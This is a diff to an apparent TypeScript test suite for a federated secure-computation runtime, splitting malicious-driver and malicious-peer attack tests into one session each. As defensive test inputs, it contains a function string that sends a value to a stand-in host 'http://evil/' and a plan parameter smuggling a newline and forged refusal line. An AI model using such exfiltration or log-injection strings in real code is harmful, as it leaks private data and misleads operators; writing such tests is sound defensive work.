@@ -4,7 +4,8 @@
  * plans to the real `serveSessions` players, and a malicious peer injects
  * messages into a session. Each test asserts the refusal (rule, party) and
  * that the victim (owner0) sent nothing but its replies, none carrying its
- * value.
+ * value. A player ends its session at its first failed command, so each
+ * attempt runs in a session (and network) of its own and asserts that end.
  */
 import { after, describe, it } from 'node:test';
 import assert from 'node:assert/strict';
@@ -17,7 +18,7 @@ import { abortKey, execKey, type DataSource } from '../../src/runtime/remote/pla
 import { frame } from '../../src/runtime/remote/wire.js';
 import { HostingTransport } from '../../src/transport/hosting.js';
 import { MemoryTransport } from '../../src/transport/memory.js';
-import { bytesOf, carries, closeHubs, config, DRIVER, network, plan, SERVERS, typeJson, type Delivered, type EvilDriver } from './attack-helpers.js';
+import { bytesOf, carries, closeHubs, config, DRIVER, failed, finish, network, opened, plan, SERVERS, sessionEnded, typeJson, type Delivered } from './attack-helpers.js';
 
 after(closeHubs);
 
@@ -43,31 +44,40 @@ function victimSentOnlyReplies(wire: readonly Delivered[]): void {
 const refusal = (r: { header: Record<string, unknown> }) => ({ ok: r.header['ok'], rule: r.header['rule'], party: r.header['party'] });
 
 describe('placement confusion: no command moves a CLIENTS value out of its client', () => {
-  it("transfer, map/zip/lift at AGGREGATORS and zip across placements of a CLIENTS value are refused by class only; a ref is never re-placed", async () => {
-    const net = network(config(), () => DEFAULT_POLICY, data);
-    const { d } = await net.open();
-    assert.equal((await d.command('owner0', { op: 'data', out: 0, source: 'vecs', type: I32x2 })).header['ok'], true);
-    await d.command('owner0', { op: 'broadcast', out: 1, placement: 'AGGREGATORS', type: I32x2 }, [bytesOf(Int32Array.of(1, 1))]);
-    const attempts = {
-      transfer: { op: 'transfer', ref: 0 },
-      mapAtAggregators: { op: 'map', placement: 'AGGREGATORS', fn: 'fedcrypt.demo.count', arg: 0, out: 2 },
-      zipAtAggregators: { op: 'zip', placement: 'AGGREGATORS', args: [0], names: [null], out: 3 },
-      zipAcross: { op: 'zip', placement: 'AGGREGATORS', args: [1, 0], names: [null, null], out: 4 },
-      zipAcrossAtClients: { op: 'zip', placement: 'CLIENTS', args: [0, 1], names: [null, null], out: 5 },
-      liftAtAggregators: { op: 'lift', uri: 'sequence_sum', placement: 'AGGREGATORS', arg: 0, type: null, out: 6 },
-      replaceRef: { op: 'broadcast', out: 0, placement: 'AGGREGATORS', type: I32x2 },
-      transferAfterReplace: { op: 'transfer', ref: 0 },
-      refAsString: { op: 'transfer', ref: '0' },
-    };
-    for (const [what, h] of Object.entries(attempts)) {
-      const r = await d.command('owner0', h, h.op === 'broadcast' ? [bytesOf(Int32Array.of(0, 0))] : []);
-      assert.equal(r.header['ok'], false, what);
-      assert.match(String(r.header['error']), /^owner0: \w+Error \(details in owner0's log\)$/, what);
-      assert.equal(r.blobs.length, 0, what);
-    }
-    await d.abort(net.players);
-    await net.close();
-    victimSentOnlyReplies(net.wire);
+  const attempts: Record<string, Record<string, unknown>> = {
+    transfer: { op: 'transfer', ref: 0 },
+    mapAtAggregators: { op: 'map', placement: 'AGGREGATORS', fn: 'fedcrypt.demo.count', arg: 0, out: 2 },
+    zipAtAggregators: { op: 'zip', placement: 'AGGREGATORS', args: [0], names: [null], out: 3 },
+    zipAcross: { op: 'zip', placement: 'AGGREGATORS', args: [1, 0], names: [null, null], out: 4 },
+    zipAcrossAtClients: { op: 'zip', placement: 'CLIENTS', args: [0, 1], names: [null, null], out: 5 },
+    liftAtAggregators: { op: 'lift', uri: 'sequence_sum', placement: 'AGGREGATORS', arg: 0, type: null, out: 6 },
+    // re-placing ref 0 at AGGREGATORS (to transfer it next) fails, and ends the session: no next command
+    replaceRef: { op: 'broadcast', out: 0, placement: 'AGGREGATORS', type: I32x2 },
+    refAsString: { op: 'transfer', ref: '0' },
+  };
+  for (const [what, h] of Object.entries(attempts)) {
+    it(`${what} of a CLIENTS value is refused without a reason, and ends the session`, async () => {
+      const a = await opened(config(), () => DEFAULT_POLICY, data);
+      assert.equal((await a.d.command('owner0', { op: 'data', out: 0, source: 'vecs', type: I32x2 })).header['ok'], true);
+      await a.d.command('owner0', { op: 'broadcast', out: 1, placement: 'AGGREGATORS', type: I32x2 }, [bytesOf(Int32Array.of(1, 1))]);
+      const r = await a.d.command('owner0', h, h['op'] === 'broadcast' ? [bytesOf(Int32Array.of(0, 0))] : []);
+      await sessionEnded(a.net, 'owner0', a.d.session);
+      await finish(a);
+      assert.equal(r.header['ok'], false);
+      assert.equal(r.header['error'], failed('owner0'));
+      assert.equal(r.blobs.length, 0);
+      victimSentOnlyReplies(a.net.wire);
+    });
+  }
+
+  it('a collect at a player that did not opt in to plaintext (a valid roster) is refused: PolicyError protocol, nothing sent', async () => {
+    const a = await opened(config(), () => DEFAULT_POLICY, data);
+    await a.d.command('owner0', { op: 'data', out: 0, source: 'vecs', type: I32x2 });
+    const r = await a.d.command('owner0', { op: 'collect', value: 0, out: 1, clients: OWNERS, aggregators: ['server0'], element: I32x2 });
+    await sessionEnded(a.net, 'owner0', a.d.session);
+    await finish(a);
+    assert.deepEqual(refusal(r), { ok: false, rule: 'protocol', party: 'owner0' });
+    victimSentOnlyReplies(a.net.wire);
   });
 
   it('an aggregator moves a collected sequence (every client in the clear) to SERVER: refused', async () => {
@@ -80,9 +90,10 @@ describe('placement confusion: no command moves a CLIENTS value out of its clien
     const rs = await Promise.all([...OWNERS, 'server0'].map((p) => d.command(p, collect)));
     assert.ok(rs.every((r) => r.header['ok'] === true));
     const moved = await d.command('server0', { op: 'transfer', ref: 1 });
+    await sessionEnded(net, 'server0', d.session);
     await d.abort(net.players);
     await net.close();
-    assert.equal(moved.header['ok'], false);
+    assert.equal(moved.header['error'], failed('server0'));
     assert.equal(moved.blobs.length, 0);
     assert.ok(!net.atDriverBesidesReplies().length);
     assert.ok(!net.wire.filter((m) => m.from === 'server0' && m.to === DRIVER).some((m) => carries(m.payload, Float32Array.of(98.625))));
@@ -90,18 +101,17 @@ describe('placement confusion: no command moves a CLIENTS value out of its clien
 });
 
 describe('only local computations registered at the player run', () => {
-  it('source text, an unknown name and a learning family name with an unknown model are refused (PolicyError computation)', async () => {
-    const net = network(config(), () => DEFAULT_POLICY, data);
-    const { d } = await net.open();
-    await d.command('owner0', { op: 'data', out: 0, source: 'vecs', type: I32x2 });
-    for (const fn of ['(x) => fetch("http://evil/" + x)', 'not-registered', 'fedcrypt.learning.fedsgd:evil:10', 'fedcrypt.learning.update:0']) {
-      const r = await d.command('owner0', { op: 'map', placement: 'CLIENTS', fn, arg: 0, out: 1 });
-      assert.deepEqual(refusal(r), { ok: false, rule: 'computation', party: 'owner0' }, fn);
-    }
-    await d.abort(net.players);
-    await net.close();
-    victimSentOnlyReplies(net.wire);
-  });
+  for (const fn of ['(x) => fetch("http://evil/" + x)', 'not-registered', 'fedcrypt.learning.fedsgd:evil:10', 'fedcrypt.learning.update:0']) {
+    it(`${JSON.stringify(fn)} is refused (PolicyError computation), and ends the session`, async () => {
+      const a = await opened(config(), () => DEFAULT_POLICY, data);
+      await a.d.command('owner0', { op: 'data', out: 0, source: 'vecs', type: I32x2 });
+      const r = await a.d.command('owner0', { op: 'map', placement: 'CLIENTS', fn, arg: 0, out: 1 });
+      await sessionEnded(a.net, 'owner0', a.d.session);
+      await finish(a);
+      assert.deepEqual(refusal(r), { ok: false, rule: 'computation', party: 'owner0' });
+      victimSentOnlyReplies(a.net.wire);
+    });
+  }
 });
 
 describe('sessions: refs of another session, replays', () => {
@@ -115,61 +125,49 @@ describe('sessions: refs of another session, replays', () => {
     assert.deepEqual(Object.keys(replay.clients), []);
     assert.ok(net.players.every((p) => replay.refusals[p]?.rule === 'jobId'), JSON.stringify(replay.refusals));
     const second = await net.open();
-    // a stale command under the first session's keys, then the second session's
-    await first.d.transport.send(DRIVER, 'owner0', execKey(first.d.session, 2), frame({ op: 'transfer', ref: 0 }));
-    const r = await second.d.command('owner0', { op: 'collect', value: 0, out: 1, clients: ['owner0'], aggregators: [DRIVER], element: I32x2 });
-    const t = await second.d.command('owner0', { op: 'transfer', ref: 0 });
+    // a stale command under the first session's keys, then the second session's use of the first's ref 0
+    await first.d.transport.send(DRIVER, 'owner0', execKey(first.d.session, 2), frame({ op: 'map', placement: 'CLIENTS', fn: 'fedcrypt.demo.count', arg: 0, out: 1 }));
+    const r = await second.d.command('owner0', { op: 'map', placement: 'CLIENTS', fn: 'fedcrypt.demo.count', arg: 0, out: 1 });
+    await sessionEnded(net, 'owner0', second.d.session);
     await second.d.abort(net.players);
     await net.close();
-    assert.deepEqual(refusal(r), { ok: false, rule: 'protocol', party: 'owner0' });
-    assert.equal(t.header['ok'], false);
+    assert.equal(r.header['error'], failed('owner0'));
+    assert.ok(net.logs.includes('owner0: command 0 failed: RangeError: owner0: no value #0 at CLIENTS here'), net.logs.join('\n'));
     assert.ok(!net.wire.some((m) => m.key === `${execKey(first.d.session, 2)}/reply`), 'a command of the ended session was answered');
     victimSentOnlyReplies(net.wire);
   });
 });
 
 describe('every plan is checked against the config and the policy before anything is sent', () => {
-  async function tryPlans(d: EvilDriver, plans: Record<string, Uint8Array>): Promise<Record<string, unknown>> {
-    const out: Record<string, unknown> = {};
-    for (const [what, bytes] of Object.entries(plans)) out[what] = refusal(await d.command('owner0', { op: 'aggregate', value: 0, out: 100, resultType: I32x2 }, [bytes]));
-    return out;
+  // one attempt per plan (a refusal ends the session); owner0 hosts owner0:0..2
+  const s = 'a11ce00000000000';
+  const p = (n: number, over: Partial<Parameters<typeof plan>[0]>) => planToBytes(aby3Plan(s, n, over));
+  // planToBytes refuses a party named twice: the driver writes the JSON itself
+  const twice = JSON.parse(new TextDecoder().decode(p(0, { clients: ['owner0:0', 'owner1', 'owner2'] }))) as { clients: string[] };
+  twice.clients = ['owner0:0', 'owner0:0', 'owner0:0'];
+  const plans: Record<string, [Uint8Array, string | undefined]> = {
+    twice: [new TextEncoder().encode(JSON.stringify(twice)), undefined],
+    modelOwnerSybils: [p(1, { clients: ['owner0:0', 'model-owner:0', 'model-owner:1'] }), 'roster'],
+    serverSybils: [p(2, { clients: ['owner0:0', 'server0:0', 'server1:0'] }), 'roster'],
+    strangers: [p(3, { clients: ['owner0:0', 'mallory', 'eve'] }), 'roster'],
+    ownerAsAggregator: [p(4, { clients: ['owner0:0', 'owner1:0', 'owner2'], aggregators: ['owner1', 'server1', 'server2'] }), 'roster'],
+    otherServer: [p(5, { clients: ['owner0:0', 'owner1', 'owner2'], server: 'server2', aggregators: ['server0', 'server1', 'model-owner'] }), 'roster'],
+    oneOwner: [p(6, { clients: ['owner0:0', 'owner0:1', 'owner0:2'] }), 'minContributors'],
+    colonTricks: [p(7, { clients: ['owner0:0', 'owner0:1:owner1', 'owner0:2:owner2'] }), 'minContributors'],
+    plaintext: [planToBytes(plan({ session: s, n: 8, protocol: 'insecure-reference', params: {}, clients: ['owner0:0', 'owner1', 'owner2'], aggregators: ['server0'] })), 'protocol'],
+  };
+  for (const [what, [bytes, rule]] of Object.entries(plans)) {
+    it(`${what}: refused (${rule ?? 'malformed'}) before anything is sent`, async () => {
+      const a = await opened(config(), () => DEFAULT_POLICY, data, { clientsOf: (x) => (x === 'owner0' ? 3 : undefined) });
+      assert.deepEqual(a.clients['owner0'], ['owner0:0', 'owner0:1', 'owner0:2']);
+      await a.d.command('owner0', { op: 'data', out: 0, source: 'vecs', type: I32x2 });
+      const r = await a.d.command('owner0', { op: 'aggregate', value: 0, out: 100, resultType: I32x2 }, [bytes]);
+      await sessionEnded(a.net, 'owner0', a.d.session);
+      await finish(a);
+      assert.deepEqual(refusal(r), { ok: false, rule, party: 'owner0' });
+      victimSentOnlyReplies(a.net.wire);
+    });
   }
-  it('the victim named twice, sybils hosted by the model owner or a server, a data owner as aggregator, another SERVER, one distinct owner: refused', async () => {
-    const net = network(config(), () => DEFAULT_POLICY, data, { clientsOf: (p) => (p === 'owner0' ? 3 : undefined) });
-    const { d, clients } = await net.open();
-    assert.deepEqual(clients['owner0'], ['owner0:0', 'owner0:1', 'owner0:2']);
-    await d.command('owner0', { op: 'data', out: 0, source: 'vecs', type: I32x2 });
-    const s = d.session;
-    const p = (n: number, over: Partial<Parameters<typeof plan>[0]>) => planToBytes(aby3Plan(s, n, over));
-    // planToBytes refuses a party named twice: the driver writes the JSON itself
-    const twice = JSON.parse(new TextDecoder().decode(p(0, { clients: ['owner0:0', 'owner1', 'owner2'] }))) as { clients: string[] };
-    twice.clients = ['owner0:0', 'owner0:0', 'owner0:0'];
-    const got = await tryPlans(d, {
-      twice: new TextEncoder().encode(JSON.stringify(twice)),
-      modelOwnerSybils: p(1, { clients: ['owner0:0', 'model-owner:0', 'model-owner:1'] }),
-      serverSybils: p(2, { clients: ['owner0:0', 'server0:0', 'server1:0'] }),
-      strangers: p(3, { clients: ['owner0:0', 'mallory', 'eve'] }),
-      ownerAsAggregator: p(4, { clients: ['owner0:0', 'owner1:0', 'owner2'], aggregators: ['owner1', 'server1', 'server2'] }),
-      otherServer: p(5, { clients: ['owner0:0', 'owner1', 'owner2'], server: 'server2', aggregators: ['server0', 'server1', 'model-owner'] }),
-      oneOwner: p(6, { clients: ['owner0:0', 'owner0:1', 'owner0:2'] }),
-      colonTricks: p(7, { clients: ['owner0:0', 'owner0:1:owner1', 'owner0:2:owner2'] }),
-      plaintext: planToBytes(plan({ session: s, n: 8, protocol: 'insecure-reference', params: {}, clients: ['owner0:0', 'owner1', 'owner2'], aggregators: ['server0'] })),
-    });
-    await d.abort(net.players);
-    await net.close();
-    assert.deepEqual(got, {
-      twice: { ok: false, rule: undefined, party: 'owner0' },
-      modelOwnerSybils: { ok: false, rule: 'roster', party: 'owner0' },
-      serverSybils: { ok: false, rule: 'roster', party: 'owner0' },
-      strangers: { ok: false, rule: 'roster', party: 'owner0' },
-      ownerAsAggregator: { ok: false, rule: 'roster', party: 'owner0' },
-      otherServer: { ok: false, rule: 'roster', party: 'owner0' },
-      oneOwner: { ok: false, rule: 'minContributors', party: 'owner0' },
-      colonTricks: { ok: false, rule: 'minContributors', party: 'owner0' },
-      plaintext: { ok: false, rule: 'protocol', party: 'owner0' },
-    });
-    victimSentOnlyReplies(net.wire);
-  });
 
   it('equal policies: the servers sent a plan of the victim alone refuse it; nothing is revealed to the driver', async () => {
     const net = network(config(), () => DEFAULT_POLICY, data);
@@ -229,20 +227,27 @@ describe('a malicious peer cannot inject into a session', () => {
 });
 
 describe('error replies', () => {
-  it("a failure whose message quotes a value, and a plan parameter carrying a forged refusal, reach the driver as the error's class only", async () => {
-    const net = network(config(), () => DEFAULT_POLICY, data);
-    const { d } = await net.open();
-    const quoted = await d.command('owner0', { op: 'data', out: 0, source: 'nope', type: typeJson('float32') });
-    await d.command('owner0', { op: 'data', out: 0, source: 'vecs', type: I32x2 });
-    const forged = aby3Plan(d.session, 0, { params: { ...ABY3.params, precision: 'low\nowner1: policy "roster" refuses: owner1 holds [31337, 4242]' } });
-    const injected = await d.command('owner0', { op: 'aggregate', value: 0, out: 100, resultType: I32x2 }, [planToBytes(forged)]);
-    await d.abort(net.players);
-    await net.close();
-    assert.equal(quoted.header['error'], "owner0: RangeError (details in owner0's log)");
-    assert.ok(!new TextDecoder().decode(net.wire.filter((m) => m.from === 'owner0').map((m) => m.payload).reduce((a, b) => new Uint8Array([...a, ...b]), new Uint8Array())).includes('98.625'));
-    assert.equal(injected.header['ok'], false);
-    assert.equal(injected.header['rule'], undefined);
-    assert.ok(!/\n/.test(String(injected.header['error'])));
-    victimSentOnlyReplies(net.wire);
+  it("a failure whose message quotes a value reaches the driver without its class or message", async () => {
+    const a = await opened(config(), () => DEFAULT_POLICY, data);
+    const quoted = await a.d.command('owner0', { op: 'data', out: 0, source: 'nope', type: typeJson('float32') });
+    await sessionEnded(a.net, 'owner0', a.d.session);
+    await finish(a);
+    assert.equal(quoted.header['error'], failed('owner0'));
+    assert.ok(a.net.logs.some((l) => l.includes('the reading 98.625 of owner0')), 'the detail is in the log');
+    const fromVictim = a.net.wire.filter((m) => m.from === 'owner0').map((m) => new TextDecoder().decode(m.payload));
+    assert.ok(!fromVictim.some((t) => t.includes('98.625')));
+    victimSentOnlyReplies(a.net.wire);
+  });
+
+  it('a plan parameter carrying a forged refusal is refused without a rule and without its text', async () => {
+    const a = await opened(config(), () => DEFAULT_POLICY, data);
+    await a.d.command('owner0', { op: 'data', out: 0, source: 'vecs', type: I32x2 });
+    const forged = aby3Plan(a.d.session, 0, { params: { ...ABY3.params, precision: 'low\nowner1: policy "roster" refuses: owner1 holds [31337, 4242]' } });
+    const injected = await a.d.command('owner0', { op: 'aggregate', value: 0, out: 100, resultType: I32x2 }, [planToBytes(forged)]);
+    await sessionEnded(a.net, 'owner0', a.d.session);
+    await finish(a);
+    assert.deepEqual(refusal(injected), { ok: false, rule: undefined, party: 'owner0' });
+    assert.equal(injected.header['error'], failed('owner0'));
+    victimSentOnlyReplies(a.net.wire);
   });
 });
